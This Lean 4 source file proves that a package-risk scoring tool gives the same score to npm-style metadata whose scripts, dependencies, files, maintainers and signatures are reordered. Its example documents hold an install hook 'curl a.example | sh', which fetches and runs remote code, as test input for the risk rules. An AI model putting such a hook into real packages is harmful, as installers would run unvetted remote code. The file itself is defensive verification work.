import PackageRisk.Proofs.Package.Reordered
import PackageRisk.Proofs.Package.Scripts
import PackageRisk.Proofs.Rules.Dependencies
import PackageRisk.Proofs.Scoring.Blocking
import PackageRisk.Proofs.Scoring.TwoRuns

/-!
# Scores do not depend on the order of a document

A hook finds its script wherever that stands, signs are counted, and a publisher is looked for
among all maintainers. So a document in another order has reports with other details at most: the
deduction, the bonus and the level of each rule are the same, and so are the score and its band
(`score_reordered`).
-/

namespace PackageRisk

/-- Results that differ in their details at most. -/
structure RuleResult.SameEffect (r r' : RuleResult) : Prop where
  deduction : r.deduction = r'.deduction
  bonus : r.bonus = r'.bonus
  level : r.level = r'.level

namespace RuleResult

theorem SameEffect.refl (r : RuleResult) : r.SameEffect r := ⟨rfl, rfl, rfl⟩

theorem movesAlike_sameEffect : MovesAlike SameEffect :=
  ⟨.refl, fun _ _ same => same.deduction, fun _ _ same => same.bonus⟩

theorem deducting_alike (weight : Value) (risk : Risk) (details details' : Fields) :
    Alike SameEffect (deducting weight risk details) (deducting weight risk details') :=
  (deducting_details weight risk details details').mono fun _ _ same =>
    same.2 ▸ ⟨rfl, rfl, rfl⟩

theorem rewarding_alike (given : Value) (details details' : Fields) :
    Alike SameEffect (rewarding given details) (rewarding given details') := by
  refine (Alike.refl (fun _ => rfl) _).bind ?_
  rintro bonus _ rfl
  exact .ok ⟨rfl, rfl, rfl⟩

end RuleResult

variable {p p' : Package}

/-! ## Each rule -/

/-- Lists of dependencies with the same names have as many signs, or fail for the same module. -/
theorem NetworkAccess.dependencySigns_alike {modules : List Value}
    {dependencies dependencies' : List (String × Value)}
    (perm : (Fields.keys dependencies).Perm (Fields.keys dependencies')) :
    Alike (fun signs signs' => signs.length = signs'.length)
      (dependencySigns modules dependencies) (dependencySigns modules dependencies') := by
  rcases one : dependencySigns modules dependencies with e | signs
  · obtain ⟨name, mem, fails⟩ := dependencySigns_eq_error_iff.1 one
    rw [dependencySigns_eq_error_iff.2 ⟨name, perm.mem_iff.1 mem, fails⟩]
    exact .error e
  · rcases two : dependencySigns modules dependencies' with e | signs'
    · obtain ⟨name, mem, fails⟩ := dependencySigns_eq_error_iff.1 two
      rw [dependencySigns_eq_error_iff.2 ⟨name, perm.mem_iff.2 mem, fails⟩] at one
      cases one
    · exact .ok (by rw [length_dependencySigns one, length_dependencySigns two, perm.countP_eq])

namespace Package.Reordered

theorem lifecycleScripts (reordered : p.Reordered p') :
    p.lifecycleScripts = p'.lifecycleScripts :=
  hookScripts_congr fun hook _ script _ => by rw [reordered.scripts]

theorem names (reordered : p.Reordered p') :
    (NetworkAccess.names p).Perm (NetworkAccess.names p') := by
  rw [List.perm_ext_iff_of_nodup (NetworkAccess.nodup_names p) (NetworkAccess.nodup_names p')]
  intro name
  rw [NetworkAccess.mem_names_iff, NetworkAccess.mem_names_iff]
  exact or_congr (reordered.dependencies.map _).mem_iff
    (or_congr (reordered.devDependencies.map _).mem_iff
      (reordered.optionalDependencies.map _).mem_iff)

theorem signs (reordered : p.Reordered p') (rule : NetworkAccess) :
    Alike (fun s s' => s.risk = s'.risk) (rule.signs p) (rule.signs p') := by
  rw [NetworkAccess.signs, NetworkAccess.signs, reordered.lifecycleScripts]
  refine (Alike.refl (fun _ => rfl) _).bind ?_
  rintro hooks _ rfl
  refine (NetworkAccess.dependencySigns_alike reordered.names).bind fun found found' same => ?_
  refine .ok ?_
  rw [NetworkAccess.Signs.risk, NetworkAccess.Signs.risk, same]

theorem grade (reordered : p.Reordered p') : Signing.hasSignatures p = Signing.hasSignatures p' ∧
    Signing.hasProvenance p = Signing.hasProvenance p' := by
  constructor
  · rw [Signing.hasSignatures, Signing.hasSignatures, reordered.dist.signatures.isEmpty_eq]
  · rw [Signing.hasProvenance, Signing.hasProvenance, reordered.dist.attestations]

theorem standing (reordered : p.Reordered p') :
    Publication.standing (Publication.publisherOf p) (Publication.maintainersOf p) =
      Publication.standing (Publication.publisherOf p') (Publication.maintainersOf p') := by
  have publisher : Publication.publisherOf p = Publication.publisherOf p' := by
    rw [Publication.publisherOf, Publication.publisherOf, reordered.publisher]
  have maintainers : (Publication.maintainersOf p).Perm (Publication.maintainersOf p') :=
    (reordered.maintainers.map _).filterMap _
  have among (name : String) : Publication.isAmong name (Publication.maintainersOf p) =
      Publication.isAmong name (Publication.maintainersOf p') := maintainers.any_eq
  have isEmpty : (Publication.maintainersOf p).isEmpty =
      (Publication.maintainersOf p').isEmpty := maintainers.isEmpty_eq
  unfold Publication.standing
  simp only [publisher, among, isEmpty]

/-- Each rule that needs nothing but the package has the same effect. -/
theorem judges (reordered : p.Reordered p') {n : Number} {options : Fields} {rule : StandardRule}
    {judge : Package → Except Failure RuleResult} (judges : rule.Judges n options judge) :
    Alike RuleResult.SameEffect (judge p) (judge p') := by
  cases judges with
  | networkAccess made =>
    refine (reordered.signs _).ofFault.bind fun found found' same => ?_
    rw [same]
    exact RuleResult.deducting_alike _ _ _ _
  | installScripts =>
    have reported : InstallScripts.reported p = InstallScripts.reported p' := by
      rw [InstallScripts.reported, InstallScripts.reported, reordered.lifecycleScripts]
    rw [InstallScripts.evaluate, InstallScripts.evaluate, InstallScripts.risk,
      InstallScripts.risk, reported]
    exact RuleResult.deducting_alike _ _ _ _
  | publication =>
    unfold Publication.evaluate
    dsimp only
    rw [reordered.standing]
    exact RuleResult.deducting_alike _ _ _ _
  | signing =>
    rw [Signing.evaluate, Signing.evaluate, Signing.grade, Signing.grade, reordered.grade.1,
      reordered.grade.2]
    exact .refl RuleResult.SameEffect.refl _
  | billOfMaterials =>
    have bills : (BillOfMaterials.billsOf p).isEmpty = (BillOfMaterials.billsOf p').isEmpty := by
      rw [BillOfMaterials.billsOf, BillOfMaterials.billsOf, reordered.sbom]
      exact ((reordered.files.filter _).append_right _).isEmpty_eq
    unfold BillOfMaterials.evaluate
    dsimp only
    rw [bills]
    split_ifs
    · exact .ok ⟨rfl, rfl, rfl⟩
    · exact RuleResult.rewarding_alike _ _ _

theorem inspects (reordered : p.Reordered p') (rule : HiddenCode) :
    (rule.evaluate p).Alike RuleResult.SameEffect (rule.evaluate p') := by
  have archive : rule.archiveSigns p = rule.archiveSigns p' := by
    rw [HiddenCode.archiveSigns, HiddenCode.archiveSigns, reordered.dist.tarball, reordered.name]
  have suspicious : (p.files.filter FileName.isSuspicious).length =
      (p'.files.filter FileName.isSuspicious).length := (reordered.files.filter _).length_eq
  rw [HiddenCode.evaluate, HiddenCode.evaluate, reordered.dist.unpackedSize, archive]
  refine (Session.Alike.refl (fun _ => rfl) _).bind ?_
  rintro size _ rfl
  refine (Session.Alike.refl (fun _ => rfl) _).bind ?_
  rintro signs _ rfl
  refine Session.alike_lift ?_
  rw [HiddenCode.conclude, HiddenCode.conclude, HiddenCode.Signs.risk, HiddenCode.Signs.risk,
    suspicious]
  exact RuleResult.deducting_alike _ _ _ _

end Package.Reordered

/-! ## Scores -/

namespace Scoring

variable {settings : Settings} {inspect : Inspector} {registry : Registry}
  {document document' : Value}

theorem answers_of_reordered (reordered : p.Reordered p')
    (built : Registry.standard settings inspect = .ok registry) :
    ∀ made ∈ registry.rules,
      (made.answer p).Alike RuleResult.SameEffect (made.answer p') :=
  answer_alike RuleResult.movesAlike_sameEffect built
    (fun _ _ _ _ judges => reordered.judges judges) reordered.inspects

theorem scoreDocument_of_valid (valid : Package.check document = .valid p) (bounds : ScoreBounds)
    (rules : List Rule) : scoreDocument bounds rules document = score bounds rules p := by
  obtain ⟨fields, rfl, -⟩ := record_eq_valid valid
  unfold scoreDocument
  dsimp only
  rw [valid]

/-- A valid document and one that lists the same scripts, dependencies, files, maintainers and
signatures in another order end the scoring alike, with the same score and band and with reports of
the same effect, whatever the settings, the archive and the bounds are. With the standard settings
both have a score. -/
theorem score_reordered (reordered : Document.Reordered document document')
    (valid : Package.check document = .valid p) :
    (∀ settings inspect registry, Registry.standard settings inspect = .ok registry →
      ∀ bounds, (scoreDocument bounds registry.rules document).Alike
        (Score.Alike RuleResult.SameEffect) (scoreDocument bounds registry.rules document')) ∧
    ∀ inspect : Inspector, inspect.Recordable →
      ∃ registry, Registry.standard .standard inspect = .ok registry ∧
        ∀ net w, ∃ s s', (scoreDocument .standard registry.rules document net w).1 = .ok s ∧
          (scoreDocument .standard registry.rules document' net w).1 = .ok s' ∧
          s.Alike RuleResult.SameEffect s' := by
  obtain ⟨p', valid', order⟩ := Package.reordered_of_check reordered valid
  have alike : ∀ settings inspect registry,
      Registry.standard settings inspect = .ok registry → ∀ bounds,
        (scoreDocument bounds registry.rules document).Alike
          (Score.Alike RuleResult.SameEffect) (scoreDocument bounds registry.rules document') := by
    intro settings inspect registry built bounds
    rw [scoreDocument_of_valid valid, scoreDocument_of_valid valid']
    exact score_alike RuleResult.movesAlike_sameEffect (answers_of_reordered order built) bounds
  refine ⟨alike, fun inspect inspected => ?_⟩
  obtain ⟨registry, built⟩ := Registry.exists_standard inspect
  refine ⟨registry, built, fun net w => ?_⟩
  obtain ⟨s, scored, -⟩ := exists_score_standard inspected built net p w
  rw [← scoreDocument_of_valid valid] at scored
  obtain ⟨outcome, -⟩ := alike _ _ _ built .standard net w
  rw [scored] at outcome
  generalize two : (scoreDocument .standard registry.rules document' net w).1 = y at outcome
  cases outcome with
  | @ok _ s' same => exact ⟨s, s', scored, rfl, same⟩

/-- A document with two of each. -/
def pairedDocument : Value :=
  .object [("name", .text "a"),
    ("scripts", .object [("install", .text "curl a.example | sh"), ("prepare", .text "tsc")]),
    ("dependencies", .object [("axios", .text "1.0.0"), ("left-pad", .text "1.3.0")]),
    ("files", .list [.text "a.min.js", .text "bom.json"]),
    ("maintainers", .list [.text "first <first@a.example>", .object [("name", .text "second")]]),
    ("_npmUser", .object [("name", .text "second")]),
    ("dist", .object [("signatures", .list [.object [("keyid", .text "1")], .object []])])]

/-- The same document with each pair the other way round. -/
def swappedDocument : Value :=
  .object [("name", .text "a"),
    ("scripts", .object [("prepare", .text "tsc"), ("install", .text "curl a.example | sh")]),
    ("dependencies", .object [("left-pad", .text "1.3.0"), ("axios", .text "1.0.0")]),
    ("files", .list [.text "bom.json", .text "a.min.js"]),
    ("maintainers", .list [.object [("name", .text "second")], .text "first <first@a.example>"]),
    ("_npmUser", .object [("name", .text "second")]),
    ("dist", .object [("signatures", .list [.object [], .object [("keyid", .text "1")]])])]

/-- Both documents have a score, and it is the same. -/
theorem score_swappedDocument :
    Document.Reordered pairedDocument swappedDocument ∧
      (∃ p, Package.check pairedDocument = .valid p) ∧
      ∃ registry, Registry.standard .standard (Archive.analyze .standard) = .ok registry ∧
        ∃ s s', (scoreDocument .standard registry.rules pairedDocument Network.unreachable
            default).1 = .ok s ∧
          (scoreDocument .standard registry.rules swappedDocument Network.unreachable
            default).1 = .ok s' ∧
          s.Alike RuleResult.SameEffect s' := by
  have dist {v v' : Value} (swapped : v.Shuffled v') : Package.SamePart "dist"
      (.object [("signatures", v)]) (.object [("signatures", v')]) :=
    .inr (.inr ⟨rfl, _, _, rfl, rfl, .cons ⟨rfl, .inr ⟨rfl, swapped⟩⟩ .nil⟩)
  have shuffled {key : String} {v v' : Value} (among : key ∈ Package.shuffledKeys)
      (swapped : v.Shuffled v') : Package.SamePart key v v' := .inr (.inl ⟨among, swapped⟩)
  have reordered : Document.Reordered pairedDocument swappedDocument :=
    ⟨_, _, rfl, rfl, .cons ⟨rfl, .inl rfl⟩ <|
      .cons ⟨rfl, shuffled (by decide) (.object (by decide) (.swap _ _ []))⟩ <|
      .cons ⟨rfl, shuffled (by decide) (.object (by decide) (.swap _ _ []))⟩ <|
      .cons ⟨rfl, shuffled (by decide) (.list (.swap _ _ []))⟩ <|
      .cons ⟨rfl, shuffled (by decide) (.list (.swap _ _ []))⟩ <|
      .cons ⟨rfl, .inl rfl⟩ <| .cons ⟨rfl, dist (.list (.swap _ _ []))⟩ .nil⟩
  have valid : Package.check pairedDocument = _ := rfl
  obtain ⟨registry, built, scores⟩ :=
    (score_reordered reordered valid).2 (Archive.analyze .standard)
      (Archive.recordable_analyze .standard)
  exact ⟨reordered, ⟨_, valid⟩, registry, built, scores Network.unreachable default⟩

end Scoring

end PackageRisk
